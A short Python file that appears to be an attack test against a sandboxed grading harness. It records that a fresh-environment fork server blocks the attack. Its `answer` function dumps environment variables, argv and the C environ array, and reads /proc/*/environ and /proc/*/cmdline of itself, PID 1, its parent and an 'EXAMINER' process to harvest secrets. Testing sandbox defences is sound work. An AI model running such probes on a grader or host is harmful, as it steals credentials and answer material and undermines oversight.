"""Reads secrets that were left in the environment or in command lines.

Tries: os.environ, the C environment, sys.argv, /proc/*/environ and /proc/*/cmdline.
Stopped by: the fork server starts with a fresh environment; its orders come over a socket.
"""

import ctypes
import os
import sys


def answer(x):
    print(dict(os.environ), sys.argv, sys.orig_argv, sys.flags, sys._xoptions)
    environment = ctypes.POINTER(ctypes.c_char_p).in_dll(ctypes.CDLL(None), "environ")
    for place in range(100):
        if not environment[place]:
            break
        print(environment[place])
    for pid in ("self", 1, os.getppid(), EXAMINER):
        for name in ("environ", "cmdline"):
            try:
                print(open(f"/proc/{pid}/{name}").read())
            except OSError:
                continue
    return x
